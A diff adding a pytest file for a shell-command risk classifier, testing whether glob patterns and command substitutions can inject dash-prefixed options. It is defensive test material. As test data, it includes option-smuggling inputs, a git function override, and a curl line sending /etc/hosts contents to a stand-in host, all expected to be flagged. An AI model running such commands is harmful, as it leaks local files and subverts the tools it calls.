@@ -1,0 +1,120 @@
+"""Words that are only known when a line runs bring no option where that is sure, and may bring one everywhere else."""
+
+from __future__ import annotations
+
+import msgspec
+import pytest
+
+from assent.model import Facts, Tier
+from assent.reading.paths import Place
+from lines import PLACE, tier
+
+EMPTY = Place(Facts(home="/home/u", has_dashes=lambda _: False), "/code/app", ("/code/app",))
+DASHED = Place(Facts(home="/home/u", has_dashes=lambda f: f == "/code/app"), "/code/app", ("/code/app",))
+TAGGED = Place(
+    Facts(home="/home/u", trap=lambda tool, _: "a ref starts with a dash" if tool == "git-refs" else None),
+    "/code/app",
+    ("/code/app",),
+)
+SPACED = msgspec.structs.replace(PLACE, cwd="/code/app/a -o b", workspace=("/code/app/a -o b",))
+
+PATTERNS = ["sort *.txt", "file *", "rg foo *.py", "sort [ab]*", "sort ?x", "cd sub && sort *", "sort -t, *.csv"]
+
+
+@pytest.mark.parametrize("line", PATTERNS)
+def test_a_pattern_is_no_option_where_no_name_starts_with_a_dash(line: str) -> None:
+    assert tier(line, EMPTY) is Tier.SAFE
+
+
+@pytest.mark.parametrize("line", [p for p in PATTERNS if "cd" not in p])
+def test_a_pattern_may_be_an_option_where_a_name_starts_with_a_dash_or_the_disk_is_not_seen(line: str) -> None:
+    assert tier(line, DASHED) is Tier.DANGEROUS
+    assert tier(line) is Tier.DANGEROUS
+
+
+@pytest.mark.parametrize(
+    "line", ["cd sub; sort *", "cd ..; sort *", 'cd "$X"; sort *', "sort $X*", "sort -*", "sort *$X"]
+)
+def test_a_pattern_counts_in_every_folder_it_may_be_matched_in(line: str) -> None:
+    assert tier(line, DASHED) is Tier.DANGEROUS
+
+
+HARMLESS = [
+    "git diff $(git merge-base HEAD main)",
+    'git diff "$(git merge-base HEAD main)"',
+    "git show $(git rev-parse HEAD)",
+    "git show $(git rev-list -n 1 v1)",
+    "git log -p $(git log -1 --format=%H)",
+    "git log --oneline $(git rev-list --max-parents=0 HEAD | tail -1)..HEAD",
+    "file $(which ls)",
+    'file "$(command -v ls)"',
+    "sort $(pwd)/x",
+    "file $(git rev-parse --show-toplevel)",
+    "docker inspect $(docker ps -q)",
+    "sort $(date +%F).log",
+]
+NAMED = [
+    "git log $(git describe --tags --abbrev=0)..HEAD --oneline",
+    'git log "$(git describe)"..HEAD',
+    "git log $(git branch --show-current)",
+    "git log $(git tag --sort=-v:refname | head -1)..HEAD",
+]
+
+
+@pytest.mark.parametrize("line", [*HARMLESS, *NAMED])
+def test_output_that_starts_with_no_dash_is_no_option(line: str) -> None:
+    assert tier(line) is Tier.SAFE
+
+
+@pytest.mark.parametrize("line", NAMED)
+def test_names_of_a_repository_that_means_harm_may_be_options(line: str) -> None:
+    assert tier(line, TAGGED) is Tier.DANGEROUS
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "git log $(cat x)",
+        "git log $(git rev-parse --output=x)",
+        "git log $(git rev-parse -- x)",
+        "git log $(git rev-parse $X)",
+        'git log $(git rev-parse "a b")',
+        "git log $X$(git rev-parse HEAD)",
+        "git log $(git rev-parse HEAD; cat x)",
+        "git log $(git rev-parse HEAD | cat - x)",
+        "git log $(cat x | head -1)",
+        "git log $(head -1 x)",
+        "git() { cat x; }; sort $(git rev-parse HEAD)",
+        "sort $(git describe --match x)",
+        "cd $X && git log $(git describe)",
+        "file $(command -v ls)",
+        "file $(realpath x)",
+        "sort $(date +%z)",
+        "cd sub; sort $(pwd)",
+        "sort $(X=1 pwd)",
+        "sort < $(pwd) | xargs sort",
+        "sort $(git log -1 --format=%s)",
+    ],
+)
+def test_any_other_output_may_be_an_option(line: str) -> None:
+    assert tier(line) is Tier.DANGEROUS
+
+
+def test_a_folder_with_a_space_in_its_name_becomes_several_words() -> None:
+    assert tier("sort $(pwd)", SPACED) is Tier.DANGEROUS
+    assert tier('sort "$(pwd)"', SPACED) is Tier.SAFE
+
+
+@pytest.mark.parametrize(
+    ("line", "expected"),
+    [
+        ("kubectl logs $(kubectl get pods -l app=web -o name | head -1)", Tier.SAFE),
+        ("kubectl logs $(cat x)", Tier.DANGEROUS),
+        ("kubectl logs x-$(oc get pods -o name)", Tier.DANGEROUS),
+        ("kubectl logs x$Y$(kubectl get pods -o name)", Tier.DANGEROUS),
+        ("curl https://x.example/$(curl -s file:///etc/hosts)", Tier.DANGEROUS),
+        ("kubectl logs x$(kubectl get pods; cat y)", Tier.DANGEROUS),
+    ],
+)
+def test_a_service_may_be_told_what_it_said_itself(line: str, expected: Tier) -> None:
+    assert tier(line) is expected
